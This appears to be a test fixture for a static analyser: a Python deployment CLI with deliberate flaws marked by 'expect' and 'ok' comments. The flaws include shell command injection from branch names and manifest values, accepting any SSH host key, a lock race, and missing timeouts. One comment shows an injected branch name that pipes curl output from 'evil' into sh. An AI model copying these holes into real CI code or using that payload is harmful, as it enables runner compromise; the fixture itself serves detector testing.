"""deployctl -- build, tag and roll out a service.

Run by the CI pipeline on every merged pull request: ``--ref`` is the PR's branch name and
the service manifest (``deploy.json``) comes from the repository being deployed.

    deployctl build --ref "$CI_BRANCH" --service billing
    deployctl rollout --service billing --tag 2024.06.1
"""

from __future__ import annotations

import json
import logging
import os
import shlex
import subprocess
from pathlib import Path

import click
import paramiko
import requests

log = logging.getLogger("deployctl")

REGISTRY = os.environ.get("DEPLOY_REGISTRY", "registry.internal.example.com")
DEPLOY_API = os.environ.get("DEPLOY_API", "https://deploy.internal.example.com/api/v2")
WORKDIR = Path(os.environ.get("DEPLOY_WORKDIR", "/srv/deploy"))
LOCK_FILE = WORKDIR / ".deploy.lock"


def load_manifest(service: str) -> dict:
    with (WORKDIR / "services" / f"{service}.json").open(encoding="utf-8") as fh:
        return json.load(fh)


def image_ref(service: str, tag: str) -> str:
    return f"{REGISTRY}/{service}:{tag}"


@click.group()
@click.option("-v", "--verbose", is_flag=True)
def cli(verbose: bool) -> None:
    logging.basicConfig(level=logging.DEBUG if verbose else logging.INFO)


@cli.command()
@click.option("--ref", required=True, help="git ref to build (branch or tag)")
@click.option("--service", required=True)
def build(ref: str, service: str) -> None:
    """Check out REF and build the service image."""
    checkout = WORKDIR / "src" / service
    # expect: command-injection -- a branch named `x;curl evil|sh` runs on the CI runner
    subprocess.run(f"git -C {checkout} fetch origin {ref} && git -C {checkout} checkout FETCH_HEAD", shell=True, check=True)
    # ok: command-injection -- constant command line
    subprocess.run("make -s clean build", shell=True, check=True, cwd=checkout)
    # ok: command-injection -- argument vector, no shell
    sha = subprocess.run(
        ["git", "-C", str(checkout), "rev-parse", "--short", "HEAD"],
        check=True,
        capture_output=True,
        text=True,
    ).stdout.strip()
    tag = f"{ref.replace('/', '-')}-{sha}"
    # expect: command-injection
    os.system("docker build -t %s %s" % (image_ref(service, tag), checkout))
    click.echo(f"built {image_ref(service, tag)}")


@cli.command()
@click.option("--service", required=True)
@click.option("--tag", required=True)
def push(service: str, tag: str) -> None:
    image = image_ref(service, tag)
    # ok: command-injection -- quoted before it reaches the shell
    subprocess.run(f"docker push {shlex.quote(image)} >> push.log 2>&1", shell=True, check=True)
    # ok: command-injection -- shlex.join quotes every element
    subprocess.run(shlex.join(["cosign", "sign", "--yes", image]), shell=True, check=True)


@cli.command()
@click.option("--service", required=True)
@click.option("--tag", required=True)
def rollout(service: str, tag: str) -> None:
    """Helm upgrade, then restart the sidecar on the bastion."""
    manifest = load_manifest(service)
    release = manifest["release"]
    values = " ".join(f"--set {k}={v}" for k, v in manifest.get("values", {}).items())
    # expect: command-injection @helm -- manifest values and the tag are pasted into one string
    cmd = f"helm upgrade --install {release} charts/{manifest['chart']} --set image.tag={tag} {values}"
    log.debug("running %s", cmd)
    # expect: command-injection @helm
    out = subprocess.check_output(cmd, shell=True, text=True, timeout=600)
    click.echo(out)

    # expect: race-toctou -- two pipelines can both see "no lock" and both proceed
    if not LOCK_FILE.exists():
        LOCK_FILE.write_text(str(os.getpid()))
    else:
        raise click.ClickException("another rollout is in progress")

    client = paramiko.SSHClient()
    # expect: tls-verify-disabled -- any host key is accepted for the bastion
    client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    client.connect(manifest["bastion"], username="deploy", timeout=20)
    try:
        # expect: command-injection -- sidecar name comes from the repository's manifest
        _, stdout, _ = client.exec_command(f"sudo systemctl restart {manifest['sidecar']}")
        click.echo(stdout.read().decode())
    finally:
        client.close()
        LOCK_FILE.unlink(missing_ok=True)


@cli.command()
@click.option("--service", required=True)
@click.option("--since", default="1h")
def logs(service: str, since: str) -> None:
    manifest = load_manifest(service)
    # expect: command-injection -- a list, but bash -c re-parses the interpolated string
    proc = subprocess.Popen(["bash", "-c", f"kubectl logs -l app={manifest['app']} --since={since} | tail -n 200"], stdout=subprocess.PIPE, text=True)
    out, _ = proc.communicate(timeout=120)
    click.echo(out)


@cli.command()
@click.option("--service", required=True)
def snapshot(service: str) -> None:
    """Archive the service's data directory before a risky rollout."""
    data_dir = WORKDIR / "data" / service
    archive = WORKDIR / "snapshots" / f"{service}.tar.gz"
    # ok: command-injection -- argument vector; the paths are never shell-parsed
    subprocess.run(["tar", "czf", str(archive), "-C", str(data_dir), "."], check=True, timeout=900)
    # expect: resource-leak -- the handle outlives the command and is never closed
    upload_log = open(WORKDIR / "snapshots" / "upload.log", "a")
    subprocess.run(["rclone", "copy", str(archive), "s3:snapshots/"], stdout=upload_log, check=True, timeout=900)
    click.echo(f"snapshot of {service} uploaded")


@cli.command()
@click.option("--service", required=True)
@click.option("--tag", required=True)
def announce(service: str, tag: str) -> None:
    payload = {"service": service, "tag": tag, "actor": os.environ.get("CI_ACTOR", "ci")}
    token = os.environ["DEPLOY_API_TOKEN"]
    try:
        # expect: missing-timeout
        requests.post(f"{DEPLOY_API}/deployments", json=payload, headers={"Authorization": f"Bearer {token}"})
    # expect: swallowed-exception -- a failed announcement disappears without a trace
    except Exception:
        pass
    # ok: missing-timeout
    resp = requests.get(f"{DEPLOY_API}/deployments/latest", params={"service": service}, timeout=10)
    resp.raise_for_status()
    click.echo(resp.json().get("status", "unknown"))


if __name__ == "__main__":
    cli()
